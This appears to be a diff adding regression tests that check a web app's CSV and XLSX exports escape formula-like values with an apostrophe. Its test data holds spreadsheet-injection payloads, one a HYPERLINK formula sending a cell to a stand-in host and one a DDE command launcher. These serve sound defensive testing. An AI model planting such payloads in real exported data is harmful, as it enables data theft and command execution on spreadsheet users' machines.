@@ -13,6 +13,7 @@ import {
   createTag,
   linkUserToPerson,
   tagOportunidade,
+  validCnpj,
 } from '../helpers/fixtures';
 
 let t: TestApp;
@@ -169,6 +170,57 @@ describe('opportunities export', () => {
     const partner = await t.createUser({ role: UserRole.Partner, person_id: mine.id });
     const res = await download(`/api/v1/oportunidades/export?query=${word}`, await t.as(partner));
     expect(csvRecords(res.text).records.map((r) => Number(r.ID))).toEqual([visible.id]);
+  });
+});
+
+describe('formulas in exports (issue 25, hole 1)', () => {
+  // The four names of the report, plus a tab and a carriage return, which OWASP lists too.
+  const PAYLOADS = ['=HYPERLINK("http://evil.test/?x="&A1,"x")', "+1+cmd|' /C calc'!A0", '@SUM(1,1)', '-2+3'];
+
+  async function hostilePersons() {
+    const word = uniqueWord();
+    const headers = await staff();
+    for (const [i, payload] of PAYLOADS.entries()) {
+      // Created through the API, as any signed-in user may; the word is the trade name so the search finds them.
+      const res = await t.call({
+        method: 'POST',
+        url: '/api/v1/persons/',
+        headers,
+        payload: { person_type: 2, document: validCnpj(), name: payload, trade_name: `${word} ${i}`, role: 1 },
+      });
+      expect(res.status, res.body).toBe(201);
+    }
+    await createPerson(t.database.db, { name: `\tTab`, trade_name: `${word} tab` });
+    await createPerson(t.database.db, { name: `\rRetorno`, trade_name: `${word} cr` });
+    return { word, headers, expected: [...PAYLOADS, '\tTab', '\rRetorno'].map((name) => `'${name}`).sort() };
+  }
+
+  it('writes every formula-like name of a persons CSV after an apostrophe', async () => {
+    const { word, headers, expected } = await hostilePersons();
+    const res = await download(`/api/v1/persons/export?format=csv&query=${word}`, headers);
+    const { records } = csvRecords(res.text);
+    const names = records.map((r) => r.Nome.replace(/^"|"$/g, '').replace(/""/g, '"')).sort();
+    expect(names).toEqual(expected);
+    expect(records.every((r) => /^\d+$/.test(r.ID))).toBe(true);
+  });
+
+  it('writes them as text cells starting with an apostrophe in a persons XLSX, numbers staying numbers', async () => {
+    const { word, headers, expected } = await hostilePersons();
+    const rows = await xlsxRows((await download(`/api/v1/persons/export?format=xlsx&query=${word}`, headers)).bytes);
+    // XML reads a carriage return back as a line feed; the apostrophe before it is what matters.
+    expect(rows.slice(1).map((row) => row[1]).sort()).toEqual(expected.map((name) => name.replace('\r', '\n')).sort());
+    expect(rows.slice(1).every((row) => typeof row[0] === 'number')).toBe(true);
+  });
+
+  it('neutralises a formula-like opportunity title while its money stays a number', async () => {
+    // A negative amount cannot be stored (a check constraint); tests/unit/csv.test.ts shows one stays a number.
+    const word = uniqueWord();
+    await createOportunidade(t.database.db, { titulo: `-${word} menos`, receita_esperada: '1500.25' });
+    const headers = await staff();
+    const csv = csvRecords((await download(`/api/v1/oportunidades/export?query=${word}`, headers)).text).records;
+    expect(csv.map((r) => [r.Título, r['Receita Esperada (R$)']])).toEqual([[`'-${word} menos`, '1500,25']]);
+    const rows = await xlsxRows((await download(`/api/v1/oportunidades/export?format=xlsx&query=${word}`, headers)).bytes);
+    expect([rows[1][1], rows[1][8]]).toEqual([`'-${word} menos`, 1500.25]);
   });
 });
 
